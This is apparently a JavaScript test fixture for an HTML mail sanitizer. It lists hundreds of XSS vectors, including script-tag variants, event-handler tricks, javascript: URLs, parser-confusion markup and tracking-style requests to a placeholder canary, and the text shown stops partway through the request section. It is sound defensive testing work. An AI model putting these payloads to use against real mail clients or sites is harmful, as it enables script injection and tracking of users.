// Hostile HTML mail bodies. Every entry fires by itself in current Chromium when its raw HTML is
// served as a page of its own; after sanitizing, none of them may fire.
//
//   name   unique short identifier
//   html   the mail body; CANARY stands for an origin such as http://127.0.0.1:4567
//   fires  "script"   - calls the global fired() (top.fired() from inside a frame)
//          "request"  - sends an HTTP request to CANARY/<path>
//          "navigate" - takes the top page to CANARY/<path>

export const vectors = [];

const raw = String.raw;
let serial = 0;

const add = (fires, name, html) => vectors.push({ name, html, fires });
// A canary address of its own for every vector that needs one.
const canary = () => `CANARY/v${String(++serial).padStart(3, '0')}`;

const scripts = (entries) => {
  for (const [name, html] of Object.entries(entries)) add('script', name, html);
};
const requests = (entries) => {
  for (const [name, build] of Object.entries(entries)) add('request', name, build(canary()));
};
const navigations = (entries) => {
  for (const [name, build] of Object.entries(entries)) add('navigate', name, build(canary()));
};

// A silent WAV of a few samples, a one-pixel GIF, and an address that always fails to load.
const WAV = 'data:audio/wav;base64,UklGRiwAAABXQVZFZm10IBAAAAABAAEAQB8AAEAfAAABAAgAZGF0YQgAAACAgICAgICAgA==';
const GIF = 'data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEAAAAALAAAAAABAAEAAAICRAEAOw==';
const BAD = 'http://127.0.0.1:1/';

// ---------------------------------------------------------------------------------------------
// Script elements: spelling of the tag, of the type, and of the source
scripts({
  'script-plain': '<p>Hello</p><script>fired()</script>',
  'script-mixed-case': '<ScRiPt>fired()</sCrIpT>',
  'script-slash-attr': '<script/x>fired()</script>',
  'script-newline-tag': '<script\n\n>fired()</script\n>',
  'script-formfeed-tag': '<script\f>fired()</script>',
  'script-end-tag-attr': '<script>fired()</script class="x">',
  'script-end-tag-slash': '<script>fired()</script/>',
  'script-double-angle': '<<script>fired()//<</script>',
  'script-quote-soup': '<img """><script>fired()</script>">',
  'script-gt-in-attr': '<script title="a>b">fired()</script>',
  'script-html-comment-body': '<script><!--\nfired()\n--></script>',
  'script-type-jscript': '<script type="text/jscript">fired()</script>',
  'script-type-padded': '<script type=" Text/JavaScript ">fired()</script>',
  'script-type-empty': '<script type="">fired()</script>',
  'script-language': '<script language="livescript">fired()</script>',
  'script-unicode-escape': raw`<script>\u0066ired()</script>`,
  'script-computed-name': '<script>self["fi"+"red"]()</script>',
  'script-eval-charcodes': '<script>eval(String.fromCharCode(102,105,114,101,100,40,41))</script>',
  'script-module': '<script type="module">fired()</script>',
  'script-src-data': '<script src="data:text/javascript,fired()"></script>',
  'script-src-data-base64': '<script src="data:text/javascript;base64,ZmlyZWQoKQ=="></script>',
  'script-src-data-no-type': '<script src=data:,fired()></script>',
  'script-src-data-case': '<script src="DaTa:application/javascript,fired()"></script>',
  'script-src-data-tab': '<script src="da&Tab;ta:text/javascript,fired&lpar;&rpar;"></script>',
  'script-src-data-defer': '<script defer src="data:text/javascript,fired()"></script>',
  'script-src-data-async': '<script async src="data:text/javascript,fired()"></script>',
  'script-module-src-data': '<script type=module src="data:text/javascript,fired()"></script>',
  'script-module-import-data': '<script type=module>import "data:text/javascript,fired()"</script>',
  'script-dynamic-import': '<script>import("data:text/javascript,fired()")</script>',
  'script-importmap': '<script type="importmap">{"imports":{"m":"data:text/javascript,fired()"}}</script><script type="module">import "m"</script>',
  'script-in-head': '<!doctype html><html><head><title>Mail</title><script>fired()</script></head><body><p>Hi</p></body></html>',
  'script-after-html-end': '<html><body><p>Hi</p></body></html><script>fired()</script>',
  'script-in-table': '<table><script>fired()</script><tr><td>x</td></tr></table>',
  'script-in-tr': '<table><colgroup></colgroup><tr><script>fired()</script></tr></table>',
  'script-in-select': '<select><script>fired()</script><option>x</select>',
  'script-in-unclosed-tags': '<b><i><a href=x><div><script>fired()</script>',
  'script-in-nested-unknown': '<o:p><v:shape><w:wrap><script>fired()</script></w:wrap></v:shape></o:p>',
  'script-onload-handler': '<script src="data:," onload="fired()"></script>',
  'script-onerror-handler': `<script src="${BAD}" onerror="fired()"></script>`,
  'script-module-onerror': `<script type="module" src="${BAD}" onerror="fired()"></script>`,
});

// Script elements in foreign content
scripts({
  'svg-script': '<svg><script>fired()</script></svg>',
  'svg-script-entities': '<svg><script>&#102;ired&#40;&#x29;</script></svg>',
  'svg-script-named-entities': '<svg><script>fired&lpar;&rpar;</script></svg>',
  'svg-script-cdata': '<svg><script><![CDATA[fired()]]></script></svg>',
  'svg-script-split-comment': '<svg><script>fi<!-- x -->red()</script></svg>',
  'svg-script-href': '<svg><script href="data:text/javascript,fired()"></script></svg>',
  'svg-script-xlink': '<svg><script xlink:href="data:text/javascript,fired()"></script></svg>',
  'svg-script-self-closing': '<svg><script href="data:text/javascript,fired()" /></svg>',
  'svg-script-in-g': '<svg><defs><g><script>fired()</script></g></defs></svg>',
  'svg-foreignobject-script': '<svg><foreignObject><script>fired()</script></foreignObject></svg>',
  'svg-desc-script': '<svg><desc><script>fired()</script></desc></svg>',
  'svg-title-script': '<svg><title><script>fired()</script></title></svg>',
  'svg-in-math-script': '<math><annotation-xml><svg><script>fired()</script></svg></annotation-xml></math>',
  'math-mtext-script': '<math><mtext><script>fired()</script></mtext></math>',
  'math-annotation-html-script': '<math><annotation-xml encoding="text/html"><script>fired()</script></annotation-xml></math>',
  'shadow-root-script': '<div><template shadowrootmode="open"><script>fired()</script></template></div>',
});

// ---------------------------------------------------------------------------------------------
// Image error handlers: spelling of attributes and of their values
scripts({
  'img-onerror': '<img src="x:x" onerror="fired()">',
  'img-onerror-upper': '<IMG SRC="x:x" ONERROR="fired()">',
  'img-onerror-mixed': '<iMg sRc="x:x" oNeRrOr="fired()">',
  'img-onerror-unquoted': '<img src=x:x onerror=fired()>',
  'img-onerror-single': "<img src='x:x' onerror='fired()'>",
  'img-onerror-slashes': '<img/src="x:x"/onerror="fired()"/>',
  'img-onerror-slash-only': '<img/src/onerror=fired()>',
  'img-onerror-no-gap': '<img src="x:x"onerror="fired()">',
  'img-onerror-many-slashes': '<img ///// src=x:x ///// onerror=fired()>',
  'img-onerror-newlines': '<img\nsrc\n=\nx:x\nonerror\n=\nfired()\n>',
  'img-onerror-tabs-formfeeds': '<img\tsrc="x:x"\f\tonerror\f=\t"fired()">',
  'img-onerror-decimal': '<img src=x:x onerror="&#102;&#105;&#114;&#101;&#100;&#40;&#41;">',
  'img-onerror-hex-no-semicolon': '<img src=x:x onerror="&#x66ired&#40&#41">',
  'img-onerror-zero-padded': '<img src=x:x onerror="&#0000102;ired&#x00028;&#x00029;">',
  'img-onerror-named': '<img src=x:x onerror="fired&lpar;&rpar;">',
  'img-onerror-label': '<img src=x:x onerror="javascript:fired()">',
  'img-onerror-backtick': '<img src=x:x onerror=fired``>',
  'img-onerror-js-comment': '<img src=x:x onerror="/*x*/fired/**/()//">',
  'img-onerror-leading-nbsp': '<img src=x:x onerror="&nbsp;fired()">',
  'img-onerror-unicode-escape': raw`<img src=x:x onerror="\u{66}ired()">`,
  'img-onerror-swallows-tag': '<img src=x:x onerror=fired()//<p>text</p>',
  'img-onerror-lt-attr': '<img src=x:x <b onerror=fired()>',
  'img-onerror-equals-attr': '<img ="a" src=x:x onerror=fired()>',
  'img-onerror-quote-attr': '<img " src=x:x onerror=fired()>',
  'img-onerror-first-of-two': '<img src=x:x onerror=fired() onerror="">',
  'img-onerror-gt-in-alt': '<img alt="a>b" src=x:x onerror=fired()>',
  'img-onerror-empty-src': '<img src="" onerror=fired()>',
  'img-onerror-srcset': '<img srcset="x:x 1x" onerror=fired()>',
  'img-onerror-lazy': '<img loading=lazy src=x:x onerror=fired()>',
  'img-onerror-picture': '<picture><source srcset="x:x"><img onerror=fired()></picture>',
  'img-onload-data': `<img src="${GIF}" onload="fired()">`,
  'img-onload-svg-data': `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'/>" onload="fired()">`,
  'image-alias-onerror': '<image src=x:x onerror=fired()>',
  'img-in-object-fallback': '<object data="x:x"><img src=x:x onerror=fired()></object>',
  'img-in-select': '<select><option><img src=x:x onerror=fired()></option></select>',
  'img-in-button-select': '<select><button><selectedcontent></selectedcontent></button><option selected><img src=x:x onerror=fired()>a</select>',
  'img-in-shadow-root': '<p><template shadowrootmode=closed><img src=x:x onerror=fired()></template></p>',
  'img-in-video-fallback': '<video><img src=x:x onerror=fired()></video>',
  'img-in-canvas-fallback': '<canvas><img src=x:x onerror=fired()></canvas>',
});

// ---------------------------------------------------------------------------------------------
// Load and error handlers of other elements
scripts({
  'input-image-onerror': '<input type=image src="x:x" onerror=fired()>',
  'input-image-onload': `<input type=image src="${GIF}" onload=fired()>`,
  'video-onerror': '<video src="x:x" onerror=fired()></video>',
  'audio-onerror': '<audio src="x:x" onerror=fired()></audio>',
  'video-source-onerror': '<video><source src="x:x" onerror=fired()></video>',
  'audio-source-onerror': '<audio><source onerror="fired()" src="x:x"></audio>',
  'source-bad-type-onerror': '<video><source type="a/b" src="x" onerror=fired()></video>',
  'object-onerror': `<object data="${BAD}" onerror=fired()></object>`,
  'object-onload': '<object data="data:text/html,x" onload=fired()></object>',
  'embed-onload': '<embed src="data:text/html,x" onload=fired()>',
  'iframe-onload': '<iframe onload=fired()></iframe>',
  'iframe-onload-src': '<iframe src="about:blank" onload="fired()">',
  'iframe-onload-srcdoc': '<iframe srcdoc="" onload="fired()"></iframe>',
  'iframe-onload-sandbox': '<iframe sandbox onload="fired()"></iframe>',
  'style-onload': '<style onload=fired()>p{}</style>',
  'style-onload-empty': '<style onload=fired()></style>',
  'style-onerror': `<style onerror=fired()>@import "${BAD}";</style>`,
  'link-onload': '<link rel=stylesheet href="data:text/css," onload=fired()>',
  'link-onerror': `<link rel=stylesheet href="${BAD}" onerror=fired()>`,
  'link-preload-onerror': `<link rel=preload as=image href="${BAD}" onerror=fired()>`,
  'link-preload-onload': `<link rel=preload as=image href="${GIF}" onload=fired()>`,
  'link-modulepreload-onerror': `<link rel=modulepreload href="${BAD}" onerror=fired()>`,
  'link-prefetch-onerror': `<link rel=prefetch href="${BAD}" onerror=fired()>`,
  'track-onerror': '<video src="x:x"><track default src="x:x" onerror=fired()></video>',
  'track-onload': '<video><track default src="data:text/vtt,WEBVTT" onload=fired()></video>',
  'svg-onload': '<svg onload=fired()></svg>',
  'svg-onload-slash': '<svg/onload=fired()>',
  'svg-onload-case': '<SvG OnLoAd="fired()">',
  'svg-onload-nested': '<svg><svg onload=fired()></svg></svg>',
  'svg-onload-in-math': '<math><mtext><svg onload=fired()></svg></mtext></math>',
  'svg-image-onerror': '<svg><image href="x:x" onerror=fired() /></svg>',
  'svg-image-xlink-onerror': '<svg><image xlink:href="x:x" onerror=fired() /></svg>',
  'svg-image-onload': `<svg><image href="${GIF}" onload=fired() /></svg>`,
  'svg-script-onerror': `<svg><script href="${BAD}" onerror=fired()></script></svg>`,
  'svg-script-onload': '<svg><script href="data:," onload=fired()></script></svg>',
  'svg-use-onerror': '<svg><use href="x:x" onerror=fired() /></svg>',
});

// Media life-cycle handlers
for (const event of ['loadstart', 'loadedmetadata', 'loadeddata', 'durationchange', 'canplay', 'canplaythrough', 'progress', 'suspend']) {
  add('script', `audio-on${event}`, `<audio preload=auto src="${WAV}" on${event}="fired()"></audio>`);
}
for (const event of ['play', 'playing', 'timeupdate', 'ended', 'pause']) {
  add('script', `video-autoplay-on${event}`, `<video autoplay muted src="${WAV}" on${event}="fired()"></video>`);
}

// ---------------------------------------------------------------------------------------------
// Document-level handlers
scripts({
  'body-onload': '<body onload="fired()"><p>Hi</p></body>',
  'body-onload-document': '<!DOCTYPE html><html><head><title>x</title></head><BODY\nOnLoad=fired()>Hi</BODY></html>',
  'body-second-onload': '<p>text</p><body onload=fired()>',
  'body-onload-in-div': '<div><table><tr><td><body onload=fired()></td></tr></table></div>',
  'body-onpageshow': '<body onpageshow=fired()>x</body>',
  'body-onerror': '<body onerror=fired()><script>undefinedName.x</script></body>',
  'body-onmessage-data-frame': `<body onmessage=fired()><iframe src="data:text/html,<script>parent.postMessage(1,'*')</script>"></iframe></body>`,
  'body-onmessage-sandbox-frame': `<body onmessage=fired()><iframe sandbox=allow-scripts srcdoc="<script>parent.postMessage(1,'*')</script>"></iframe></body>`,
  'body-onmessage-data-object': `<body onmessage=fired()><object data="data:text/html,<script>parent.postMessage(1,'*')</script>"></object></body>`,
  'body-onmessage-data-embed': `<body onmessage=fired()><embed src="data:text/html,<script>parent.postMessage(1,'*')</script>"></body>`,
  'body-onmessage-svg-frame': `<body onmessage=fired()><iframe src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.postMessage(1,&quot;*&quot;)'/>"></iframe></body>`,
  'body-onfocusin-autofocus': '<body onfocusin=fired()><input autofocus></body>',
  'body-onscroll-autofocus': '<body onscroll=fired()><div style="height:5000px"></div><input autofocus></body>',
  'div-onscroll-autofocus': '<div style="height:50px;overflow:auto" onscroll=fired()><div style="height:900px"></div><input autofocus></div>',
  'frameset-onload': '<frameset onload=fired()><frame></frameset>',
  'frameset-onpageshow': '<html><frameset onpageshow=fired()></frameset></html>',
  'frame-onload': '<frameset><frame onload=fired()></frameset>',
});

// ---------------------------------------------------------------------------------------------
// Elements that open, move or change state by themselves
scripts({
  'details-ontoggle': '<details open ontoggle=fired()>x</details>',
  'details-ontoggle-slash': '<details/open/ontoggle=fired()>',
  'details-ontoggle-case': '<DeTaIlS OPEN="" ONTOGGLE="fired()"><summary>s</summary></DeTaIlS>',
  'details-ontoggle-entity': '<details ontoggle="fired&#40;&#41;" open=false>',
  'slot-onslotchange': '<div><template shadowrootmode=open><slot onslotchange=fired()></slot></template>x</div>',
  'content-visibility-event': '<div style="content-visibility:auto" oncontentvisibilityautostatechange=fired()>x</div>',
  'input-onselectionchange': '<input autofocus value=abc onselectionchange=fired()>',
});

// Focus taken by autofocus
for (const [key, tag] of Object.entries({
  input: '<input autofocus EV>',
  'input-slash': '<input/autofocus/EV>',
  'input-case': '<INPUT TYPE=TEXT AUTOFOCUS=false EV>',
  'input-checkbox': '<input type=checkbox autofocus EV>',
  'input-image': '<input type=image autofocus EV>',
  textarea: '<textarea autofocus EV></textarea>',
  select: '<select autofocus EV><option>x</select>',
  button: '<button autofocus EV>x</button>',
  link: '<a href="#x" autofocus EV>x</a>',
  'link-tabindex': '<a tabindex=1 autofocus EV>x</a>',
  'div-tabindex': '<div tabindex=0 autofocus EV>x</div>',
  contenteditable: '<div contenteditable autofocus EV>x</div>',
  custom: '<x-y tabindex=1 autofocus EV>x</x-y>',
  'odd-tag-name': '<a<b tabindex=1 autofocus EV>x',
  summary: '<details><summary autofocus EV>x</summary></details>',
  'audio-controls': '<audio controls autofocus EV></audio>',
  'td-tabindex': '<table><tr><td tabindex=1 autofocus EV>x</table>',
  svg: '<svg tabindex=1 autofocus width=9 height=9 EV></svg>',
  'svg-link': '<svg><a tabindex=1 autofocus EV><text y=20>x</text></a></svg>',
  iframe: '<iframe autofocus EV></iframe>',
})) {
  add('script', `focus-${key}`, tag.replace('EV', 'onfocus=fired()'));
}
add('script', 'focusin-input', '<input autofocus onfocusin=fired()>');
add('script', 'focusin-ancestor', '<form onfocusin=fired()><p><input autofocus></p></form>');

// SVG animation timing
for (const tag of ['animate', 'set', 'animateTransform', 'animateMotion']) {
  add('script', `svg-${tag.toLowerCase()}-onbegin`, `<svg><${tag} attributeName=x dur=1s onbegin=fired() /></svg>`);
  add('script', `svg-${tag.toLowerCase()}-onend`, `<svg><${tag} attributeName=x dur=.05s onend=fired() /></svg>`);
}
scripts({
  'svg-animate-onrepeat': '<svg><animate attributeName=x dur=.1s repeatCount=4 onrepeat=fired() /></svg>',
  'svg-animate-case': '<SVG><ANIMATE ATTRIBUTENAME=x DUR=1s ONBEGIN=fired()></SVG>',
  'svg-animate-in-rect': '<svg><rect width=9 height=9><animate attributeName="width" values="1;9" dur="0.1s" onend="fired()"/></rect></svg>',
});

// CSS animations and transitions
for (const event of ['animationstart', 'animationend', 'animationiteration', 'webkitanimationstart', 'webkitanimationend']) {
  add('script', `css-on${event}`, `<style>@keyframes k{to{opacity:1}}</style><p style="animation:k .1s 4" on${event}="fired()">x</p>`);
}
for (const event of ['transitionend', 'webkittransitionend']) {
  add('script', `css-on${event}`, `<style>#t{transition:opacity .05s}@starting-style{#t{opacity:0}}</style><p id=t on${event}="fired()">x</p>`);
}
scripts({
  'css-animation-custom-element': '<style>@keyframes k{}</style><xss style="display:block;animation:k 1s" onanimationstart=fired()>x</xss>',
  'css-animation-longhand': '<style>@keyframes k{}</style><b style="animation-name:k;animation-duration:1ms" onanimationend=fired()>x</b>',
  'css-animation-webkit-prefix': '<style>@-webkit-keyframes k{}</style><i style="-webkit-animation:k 1s" onanimationstart=fired()>x</i>',
  'css-animation-bubbles': '<style>@keyframes k{}</style><div onanimationstart=fired()><p style="animation:k 1s">x</p></div>',
  'css-animation-svg-rect': '<svg><style>@keyframes k{}</style><rect width=9 height=9 style="animation:k 1s" onanimationstart=fired() /></svg>',
  'css-animation-class': '<style>@keyframes k{}.m{animation:k 1s}</style><td class=m></td><font class=m onanimationstart=fired()>x</font>',
  'css-transition-focus': '<style>input{transition:opacity .05s}input:focus{opacity:.5}</style><input autofocus ontransitionend=fired()>',
});

// ---------------------------------------------------------------------------------------------
// Frames running script: srcdoc and javascript: addresses
scripts({
  'srcdoc-script': '<iframe srcdoc="<script>top.fired()</script>"></iframe>',
  'srcdoc-entities': '<iframe srcdoc="&lt;script&gt;top.fired()&lt;/script&gt;"></iframe>',
  'srcdoc-double-entities': '<iframe srcdoc="&lt;img src=x:x onerror=&quot;top&amp;#46;fired()&quot;&gt;"></iframe>',
  'srcdoc-unquoted': '<iframe srcdoc=<script>top.fired()</script></iframe><iframe srcdoc=&lt;svg/onload=top.fired()&gt;></iframe>',
  'srcdoc-case': '<IFRAME SRCDOC="<svg onload=parent.fired()>"></IFRAME>',
  'srcdoc-nested': '<iframe srcdoc="<iframe srcdoc=\'<script>top.fired()</script>\'></iframe>"></iframe>',
  'srcdoc-wins-over-src': '<iframe src="https://example.invalid/" srcdoc="<script>top.fired()</script>"></iframe>',
  'srcdoc-sandbox-escape': '<iframe sandbox="allow-scripts allow-same-origin" srcdoc="<script>top.fired()</script>"></iframe>',
  'iframe-javascript': '<iframe src="javascript:top.fired()"></iframe>',
  'iframe-javascript-case': '<iframe src="JaVaScRiPt:top.fired()"></iframe>',
  'iframe-javascript-tab': '<iframe src="java&#9;script:top.fired()"></iframe>',
  'iframe-javascript-named-tab': '<iframe src="java&Tab;script&colon;top.fired()"></iframe>',
  'iframe-javascript-newline': '<iframe src="jav&#10;ascr&NewLine;ipt:top.fired()"></iframe>',
  'iframe-javascript-raw-newline': '<iframe src="java\nscript\n:top.fired()"></iframe>',
  'iframe-javascript-control': '<iframe src="&#1;&#14; javascript:top.fired()"></iframe>',
  'iframe-javascript-spaces': '<iframe src=" \n\t javascript:top.fired()"></iframe>',
  'iframe-javascript-entities': '<iframe src="&#106;&#x61;vascript&#58;top.fired()"></iframe>',
  'iframe-javascript-no-semicolon': '<iframe src="&#0000106avascript&#x3Atop.fired()"></iframe>',
  'iframe-javascript-percent': '<iframe src="javascript:top.%66ired%28%29"></iframe>',
  'iframe-javascript-slashes': '<iframe src="javascript://example.com/%0Atop.fired()"></iframe>',
  'iframe-javascript-markup': `<iframe src="javascript:'<script>top.fired()</script>'"></iframe>`,
  'iframe-javascript-unquoted': '<iframe/src=javascript:top.fired()>',
  'iframe-in-svg': '<svg><foreignObject><iframe src="javascript:top.fired()"></iframe></foreignObject></svg>',
  'iframe-in-math': '<math><mi><iframe src="javascript:top.fired()"></iframe></mi></math>',
  'frame-javascript': '<frameset><frame src="javascript:top.fired()"></frameset>',
});

// ---------------------------------------------------------------------------------------------
// Raw-text elements: the end tag hides inside what looks like an attribute or a comment
for (const tag of ['noscript', 'style', 'title', 'textarea', 'xmp', 'noembed', 'noframes', 'iframe', 'script']) {
  add('script', `rawtext-${tag}-attr`, `<${tag}><p title="</${tag}><img src=x:x onerror=fired()>"></p></${tag}>`);
  add('script', `rawtext-${tag}-comment`, `<${tag}><!-- </${tag}><img src=x:x onerror=fired()> --></${tag}>`);
}
scripts({
  'rawtext-style-space-end': '<style><a title="</STYLE\n/x><img src=x:x onerror=fired()>"></style>',
  'rawtext-title-in-head': '<html><head><title><b id="</title><body onload=fired()>"></title></head></html>',
  'rawtext-noscript-in-head': '<head><noscript><style></noscript><img src=x:x onerror=fired()></style></noscript></head>',
  'rawtext-noscript-svg': '<noscript><svg></noscript><svg onload=fired()></svg></noscript>',
  'rawtext-textarea-in-form': '<form><textarea><form></textarea><input autofocus onfocus=fired()></form>',
});

// Foreign content: text by HTML rules, live markup by the real tree construction
scripts({
  'foreign-svg-style-img': '<svg><style><img src=x:x onerror=fired()></style></svg>',
  'foreign-math-style-img': '<math><style><img src=x:x onerror=fired()></style></math>',
  'foreign-svg-title-style': '<svg><title><style><a id="</style><img src=x:x onerror=fired()>"></style></title></svg>',
  'foreign-svg-p-end-style': '<svg></p><style><a id="</style><img src=x:x onerror=fired()>"></svg>',
  'foreign-svg-br-end-style': '<svg></br><style><a id="</style><img src=x:x onerror=fired()>"></svg>',
  'foreign-svg-p-style': '<svg><p><style><a title="</style><img src=x:x onerror=fired()>"></style></p></svg>',
  'foreign-svg-textarea': '<svg><textarea><svg onload=fired()></textarea></svg>',
  'foreign-svg-noscript': '<svg><noscript><image href="x:x" onerror=fired()></image></noscript></svg>',
  'foreign-svg-xmp-img': '<svg><xmp><img src=x:x onerror=fired()></xmp></svg>',
  'foreign-svg-iframe-img': '<svg><iframe><img src=x:x onerror=fired()></iframe></svg>',
  'foreign-svg-template': '<svg><template><script>fired()</script></template></svg>',
  'foreign-svg-style-script': '<svg><style><script>fired()</script></style></svg>',
  'foreign-svg-style-anim': '<svg><style><set attributeName=x onbegin=fired() dur=1s></style></svg>',
  'foreign-svg-style-comment-ends': '<svg><style><!-- </style> --><img src=x:x onerror=fired()></style></svg>',
  'foreign-svg-cdata-close': '<svg><![CDATA[ "]]><img src=x:x onerror=fired()>"]]></svg>',
  'foreign-svg-cdata-style': '<svg><style><![CDATA[</style>]]><img src=x:x onerror=fired()></style></svg>',
  'foreign-svg-font-color': '<svg><font color=red><img src=x:x onerror=fired()></font></svg>',
  'foreign-math-mtext-img': '<math><mtext><img src=x:x onerror=fired()></mtext></math>',
  'foreign-math-mglyph-style': '<math><mtext><mglyph><style><img src=x:x onerror=fired()></style></mglyph></mtext></math>',
  'foreign-math-malignmark-style': '<math><mi><malignmark><style><img src=x:x onerror=fired()></style></malignmark></mi></math>',
  'foreign-math-annotation-style': '<math><annotation-xml><style><img src=x:x onerror=fired()></style></annotation-xml></math>',
  'foreign-math-annotation-xhtml': '<math><annotation-xml encoding="Application/XHTML+xml"><style><a id="</style><img src=x:x onerror=fired()>"></style></annotation-xml></math>',
  'foreign-math-table-style': '<math><table><style><a id="</style><img src=x:x onerror=fired()>"></style></table></math>',
  'foreign-math-mtext-svg-style': '<math><mtext><svg><style><img src=x:x onerror=fired()></style></svg></mtext></math>',
  'foreign-desc-style': '<svg><desc><style><a id="</style><img src=x:x onerror=fired()>"></style></desc></svg>',
  'foreign-fo-math-style': '<svg><foreignObject><math><style><img src=x:x onerror=fired()></style></math></foreignObject></svg>',
  'foreign-svg-a-svg': '<svg><a><svg><a><svg onload=fired()></svg></a></svg></a></svg>',
});

// Tables, selects, forms, formatting: nodes that the tree builder moves elsewhere
scripts({
  'moved-table-img': '<table><img src=x:x onerror=fired()><tr><td>x</td></tr></table>',
  'moved-tr-svg': '<table><tbody><tr><svg onload=fired()></svg><td>x</td></tr></tbody></table>',
  'moved-table-style-attr': '<table><style><td title="</style><img src=x:x onerror=fired()>"></td></style></table>',
  'moved-caption-select': '<table><caption><select><tr><td><img src=x:x onerror=fired()></td></tr></select></caption></table>',
  'moved-select-input': '<select><input autofocus onfocus=fired()></select>',
  'moved-select-svg': '<select><svg onload=fired()></svg></select>',
  'moved-select-math': '<select><option><math><style><img src=x:x onerror=fired()></style></math></select>',
  'moved-nested-forms': '<form><div></form><form><input autofocus onfocus=fired()></form></div>',
  'moved-adoption-agency': '<a href=x><b><p></a><img src=x:x onerror=fired()></b></p>',
  'moved-nested-links': '<a><table><a><svg onload=fired()></svg></a></table></a>',
  'moved-frameset-after-p': '<html><frameset><p><noframes></frameset><frame></noframes><frame onload=fired()></frameset></html>',
  'moved-template-close': '<template><p></template><img src=x:x onerror=fired()></template>',
  'moved-template-in-table': '<table><template></template><svg onload=fired()></svg></table>',
  'moved-plaintext-before': '<p><img src=x:x onerror=fired()><plaintext></p><b>',
  'moved-deep-nesting': `${'<div>'.repeat(600)}<img src=x:x onerror=fired()>`,
  'moved-deep-svg': `${'<svg><g>'.repeat(90)}<foreignObject><img src=x:x onerror=fired()>`,
});

// Comments, declarations and other markup that ends earlier than it seems
scripts({
  'comment-abrupt': '<!--><img src=x:x onerror=fired()>-->',
  'comment-abrupt-dash': '<!---><img src=x:x onerror=fired()>-->',
  'comment-bang-end': '<!-- x --!><img src=x:x onerror=fired()>-->',
  'comment-nested': '<!-- a <!-- b --> <img src=x:x onerror=fired()> -->',
  'comment-dashes': '<!-- a ---><img src=x:x onerror=fired()> -->',
  'comment-in-attr': '<p title="<!--"><img src=x:x onerror=fired()><p title="-->">',
  'comment-cdata': '<![CDATA[><img src=x:x onerror=fired()>]]>',
  'comment-cdata-quoted': '<![CDATA[ x="><img src=x:x onerror=fired()>" ]]>',
  'comment-pi': '<?xml version="1.0" x="><img src=x:x onerror=fired()>"?>',
  'comment-php': '<?php echo 1 > 0; ?><img src=x:x onerror=fired()>',
  'comment-doctype': '<!DOCTYPE html "><img src=x:x onerror=fired()>">',
  'comment-doctype-late': '<p>x</p><!DOCTYPE a [<!ENTITY b "><img src=x:x onerror=fired()>">]>',
  'comment-bogus-end': '</ x="><img src=x:x onerror=fired()>">',
  'comment-bogus-bang': '<!x "><img src=x:x onerror=fired()>">',
  'comment-end-tag-slash': '<//><img src=x:x onerror=fired()>',
  'comment-percent': '<% "><img src=x:x onerror=fired()> %>',
  'comment-mso-revealed': '<!--[if gte mso 9]><!--><img src=x:x onerror=fired()><!--<![endif]-->',
  'comment-mso-bogus': '<![if !mso]><img src=x:x onerror=fired()><![endif]>',
  'comment-mso-xml': '<!--[if mso]><xml><o:x></xml><![endif]--><svg onload=fired()>',
  'comment-empty-decl': '<!><img src=x:x onerror=fired()>',
  'comment-null-char': '<!-\0-><img src=x:x onerror=fired()>',
});

// ---------------------------------------------------------------------------------------------
// Addresses fetched by HTML attributes
requests({
  'img-src': (u) => `<img src="${u}">`,
  'img-src-unquoted': (u) => `<img src=${u}>`,
  'img-src-case-slash': (u) => `<IMG/SRC='${u}'/>`,
  'img-src-spaces': (u) => `<img src=" \n\t ${u} \n">`,
  'img-src-control': (u) => `<img src="&#1;&#31;${u}">`,
  'img-src-entity-path': (u) => `<img src="${u.replace('/v', '&sol;&#118;')}">`,
  'img-src-tab-in-path': (u) => `<img src="${u.replace('/v', '/&Tab;v&NewLine;')}">`,
  'img-src-dot-segments': (u) => `<img src="${u.replace('/v', '/a/../%2e/v')}">`,
  'img-src-backslash': (u) => `<img src="${u.replace('/v', '\\v')}">`,
  'img-src-first-of-two': (u) => `<img src="${u}" src="cid:a">`,
  'img-src-hidden': (u) => `<div hidden><img width=1 height=1 style="display:none" src="${u}"></div>`,
  'img-src-lazy': (u) => `<img loading=lazy src="${u}" width=9 height=9>`,
  'img-srcset': (u) => `<img srcset="${u}">`,
  'img-srcset-descriptors': (u) => `<img src="cid:a" srcset="${u} 1x, ${u} 2x">`,
  'img-srcset-sizes': (u) => `<img sizes="100vw" srcset="${u} 100w">`,
  'img-srcset-comma': (u) => `<img srcset=" , ,${u} ,">`,
  'picture-source': (u) => `<picture><source srcset="${u}"><img src="cid:a"></picture>`,
  'picture-source-media': (u) => `<picture><source media="(min-width:1px)" type="image/png" srcset="${u} 1x"><img></picture>`,
  'image-alias': (u) => `<image src="${u}">`,
  'input-image': (u) => `<input type=image src="${u}">`,
  'input-image-case': (u) => `<INPUT SRC="${u}" TYPE=ImAgE>`,
  'video-src': (u) => `<video src="${u}"></video>`,
  'video-poster': (u) => `<video poster="${u}"></video>`,
  'video-source': (u) => `<video><source src="${u}"></video>`,
  'video-source-type': (u) => `<video><source type="a/b" src="cid:a"><source type="video/mp4" src="${u}"></video>`,
  'audio-src': (u) => `<audio src="${u}"></audio>`,
  'audio-autoplay': (u) => `<audio autoplay src="${u}">`,
  'audio-source': (u) => `<audio preload=auto><source src="${u}"></audio>`,
  'video-track': (u) => `<video crossorigin><track default src="${u}"></video>`,
  'audio-track': (u) => `<video crossorigin src="${WAV}"><track kind=captions default src="${u}"></video>`,
  'embed-src': (u) => `<embed src="${u}">`,
  'embed-src-typed': (u) => `<embed type="image/png" src="${u}">`,
  'embed-svg': (u) => `<embed type="image/svg+xml" src="${u}">`,
  'object-data': (u) => `<object data="${u}"></object>`,
  'object-data-html': (u) => `<object type="text/html" data="${u}"></object>`,
  'object-data-svg': (u) => `<OBJECT TYPE=image/svg+xml DATA=${u}>`,
  'object-data-image': (u) => `<object type="image/png" data="${u}">fallback</object>`,
  'iframe-src': (u) => `<iframe src="${u}"></iframe>`,
  'iframe-src-sandbox': (u) => `<iframe sandbox src="${u}"></iframe>`,
  'iframe-src-hidden': (u) => `<iframe hidden width=0 height=0 src=${u}></iframe>`,
  'frame-src': (u) => `<frameset><frame src="${u}"></frameset>`,
  'frame-src-nested': (u) => `<html><frameset rows="*"><frameset cols="*"><frame src="${u}"></frameset></frameset></html>`,
  'script-src': (u) => `<script src="${u}"></script>`,
  'script-src-module': (u) => `<script type=module src="${u}"></script>`,
